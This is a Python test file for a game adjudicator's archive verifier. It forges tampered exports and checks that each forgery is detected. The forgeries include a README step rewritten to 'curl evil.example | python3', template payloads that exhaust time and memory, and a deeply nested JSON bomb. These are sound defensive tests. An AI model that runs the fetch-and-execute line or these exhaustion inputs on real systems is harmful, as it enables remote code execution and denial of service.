"""The archive as a weapon: tools changed, mails hidden or added, templates without end, JSON without bottom."""

from __future__ import annotations

import json
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

from adjudicator.service.audit import bounds
from adjudicator.service.audit.exports import export_game
from adjudicator.service.audit.verify import verify
from adjudicator.service.quarantine import refuse
from tests.attacks.gm_who_plays import mailbox
from tests.core.service.changes import NEW, Post
from tests.core.service.forge import Forged, forge
from tests.core.service.quay import Quay
from tests.core.service.stolen_seat import come_in


@pytest.fixture
def quay(toy: None, tmp_path: Path) -> Iterator[Quay]:
    quay = Quay(tmp_path / "home", schedule="two")
    quay.send("Ann", "bid 2")
    quay.send("Ben", "bid 4")
    quay.close()
    quay.send("Ann", "bid 3")
    export_game(quay.home, "quay", tmp_path / "quay.zip")
    yield quay
    quay.home.close()


def found(quay: Quay, tmp_path: Path, change: Callable[[Forged], None]) -> list[str]:
    assert verify(quay.home, str(tmp_path / "quay.zip")).differences == []
    path = forge(tmp_path / "quay.zip", tmp_path / "forged.zip", change, clever=True)
    return verify(quay.home, str(path)).differences


def poisoned_tool(forged: Forged) -> None:
    forged.files["check_dice.py"] += b"\nimport os\n"


def poisoned_readme(forged: Forged) -> None:
    forged.replace("README.txt", b"python3 check_dice.py", b"curl evil.example | python3")


def hidden_lock(forged: Forged) -> None:
    for name in ("outbox.json", "sent.json"):
        rows = forged.json(name)
        forged.put(name, [row for row in rows if ".ben.lock." not in json.dumps(row)])


def hidden_receipt(forged: Forged) -> None:
    rows = forged.json("outbox.json")
    forged.put("outbox.json", [row for row in rows if ".ben.receipt." not in row["key"]])


def suppressed(forged: Forged) -> None:
    """Let Ben's mail never have counted."""
    index = forged.json("journal/index.json")
    index[1].update(state="dropped", reason="spam", facts="{}")
    forged.put("journal/index.json", index)
    forged.log = [row for row in forged.log if row["body"].get("filed", {}).get("seat") != "ben"]


def unplaced(forged: Forged) -> None:
    """Say that Ann's last mail, which left nothing in the log, was read before it began."""
    index = forged.json("journal/index.json")
    index[2]["facts"] = json.dumps({"row": -1})
    forged.put("journal/index.json", index)


def other_version(forged: Forged) -> None:
    """Say that another program wrote the archive, whose tools we cannot compare."""
    forged.put("desk.json", {**forged.json("desk.json"), "program": "0.0.9"})
    poisoned_tool(forged)


def companion(forged: Forged) -> None:
    forged.files["reports/READ_ME_FIRST.exe"] = b"MZ"


@pytest.mark.parametrize(
    ("change", "told_as"),
    [
        (other_version, "check_dice.py is not the one that this program writes; do not run it"),
        (companion, "reports/READ_ME_FIRST.exe is no file of an archive; do not open it"),
        (poisoned_tool, "check_dice.py is not the one that this program writes; do not run it"),
        (poisoned_readme, "README.txt is not the one that this program writes"),
        (hidden_lock, "the lock of 1-1 for ben is not among the mails that went out"),
        (hidden_receipt, "is in one of outbox.json and sent.json"),
        (suppressed, "mail 2 of ben passes every check, and is dropped: spam"),
        (unplaced, "mail 3 is filed in the journal, at a place that the log does not have"),
    ],
)
def test_what_lies_around_the_log_is_compared_too(
    quay: Quay, tmp_path: Path, change: Callable[[Forged], None], told_as: str
) -> None:
    told = found(quay, tmp_path, change)
    assert any(told_as in each for each in told), told


def test_what_the_gm_did_with_a_mail_that_was_held_is_shown(quay: Quay) -> None:
    quay.send("Ann", "bid 5", subject="[quay] WR0N-GT2K")
    held = quay.home.store.journal("held")[-1]
    refuse(quay.home, held.id, "I do not trust it")
    result = verify(quay.home, "quay")
    assert result.differences == []
    assert any("mail 4 dropped: Refused by the GM: I do not trust it" in line for line in result.checked)


def later(forged: Forged) -> None:
    index = forged.json("journal/index.json")
    index[1]["received_at"] = "2026-11-02T08:00:00Z"
    forged.put("journal/index.json", index)


def test_another_hour_of_arrival_than_the_receipt_tells_is_found(quay: Quay, tmp_path: Path) -> None:
    mine = mailbox(quay, "ben", tmp_path / "ben")
    path = forge(tmp_path / "quay.zip", tmp_path / "forged.zip", later, clever=True)
    told = verify(quay.home, str(path), mine).differences
    assert any("has another hour for mail 2 than the archive" in each for each in told), told


def written_later(forged: Forged) -> None:
    rows = forged.json("outbox.json")
    next(row for row in rows if ".ben.receipt." in row["key"])["made_at"] = "2026-11-02T11:30:00Z"
    forged.put("outbox.json", rows)


def test_another_hour_than_a_mail_bears_is_found(quay: Quay, tmp_path: Path) -> None:
    mine = mailbox(quay, "ben", tmp_path / "ben")
    path = forge(tmp_path / "quay.zip", tmp_path / "forged.zip", written_later, clever=True)
    (told,) = verify(quay.home, str(path), mine).differences
    assert "the receipt <quay.1-1.ben.receipt." in told
    assert "and the archive says 2026-11-02T11:30:00Z" in told


def way_of_a_mail(forged: Forged) -> None:
    """Say that a mail left at some hour, at the third try, and that its bytes were others."""
    rows = forged.json("outbox.json")
    facts = {"state": "sent", "sent_at": "2026-11-05T05:05:05Z", "tries": 3, "sha256": "0" * 64}
    next(row for row in rows if ".ben.receipt." in row["key"]).update(facts)
    forged.put("outbox.json", rows)


def source_of_a_mail(forged: Forged) -> None:
    index = forged.json("journal/index.json")
    index[0]["source"] = "another mailbox"
    forged.put("journal/index.json", index)


def unprinted(forged: Forged) -> None:
    """Change settings that no report prints and no rule has asked for yet."""
    config = forged.json("config.json")
    config["missed"]["abandon_after"] += 1
    forged.put("config.json", {**config, "title": "Pier"})


@pytest.mark.parametrize("change", [way_of_a_mail, source_of_a_mail, unprinted])
def test_of_what_nothing_else_in_an_archive_tells_it_cannot_speak(
    quay: Quay, tmp_path: Path, change: Callable[[Forged], None]
) -> None:
    """The page on trust says so."""
    assert found(quay, tmp_path, change) == []


# ------------------------------------------------------------------------------ what never ends


def looping(text: str) -> Callable[[Forged], None]:
    def change(forged: Forged) -> None:
        config = forged.json("config.json")
        config["files"] = {"templates/sentences/given.j2": text}
        config["files"] |= {f"templates/sentences/{kind}.j2": text for kind in ("sold", "sunk", "landed", "weather")}
        forged.put("config.json", config)

    return change


@pytest.mark.parametrize(
    ("text", "told_as"),
    [
        (
            "{% for a in range(4999) %}{% for b in range(4999) %}{% endfor %}{% endfor %}",
            "take longer than 1.0 seconds",
        ),
        ('{{ "a" * 9999999999 }}', "take more than 1024 megabytes"),
    ],
)
def test_templates_that_do_not_end_are_stopped(
    quay: Quay, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, text: str, told_as: str
) -> None:
    monkeypatch.setattr(bounds, "SECONDS", 1.0)  # a busy machine needs a tenth of it for an honest report
    told = found(quay, tmp_path, looping(text))
    assert any(told_as in each for each in told), told


DEEP = b"[" * 100_000


@pytest.mark.parametrize(
    "name", ["config.json", "desk.json", "dice.json", "sent.json", "outbox.json", "journal/index.json", "manifest.json"]
)
def test_json_without_bottom_gives_a_sentence(quay: Quay, tmp_path: Path, name: str) -> None:
    from adjudicator.model.errors import UserError

    def change(forged: Forged) -> None:
        forged.files[name] = DEEP

    path = forge(tmp_path / "quay.zip", tmp_path / "forged.zip", change, clever=False)
    try:
        told = verify(quay.home, str(path)).differences
    except UserError as fault:
        told = [str(fault)]
    assert told
    assert not any("Error" in each or "Traceback" in each for each in told), told


def test_a_mail_said_to_have_gone_to_an_address_that_came_later_is_found(toy: None, tmp_path: Path) -> None:
    post = Post(tmp_path / "home")
    post.says("bid 2")
    post.close()
    come_in(post, NEW)
    export_game(post.home, "quay", tmp_path / "quay.zip")

    def elsewhere(forged: Forged) -> None:
        rows = forged.json("outbox.json")
        next(row for row in rows if ".ann.receipt." in row["key"])["to_address"] = NEW
        forged.put("outbox.json", rows)

    assert verify(post.home, str(tmp_path / "quay.zip")).differences == []
    path = forge(tmp_path / "quay.zip", tmp_path / "forged.zip", elsewhere, clever=True)
    (told,) = verify(post.home, str(path)).differences
    assert f"went to {NEW}, which was no address of ann then" in told
    post.home.close()
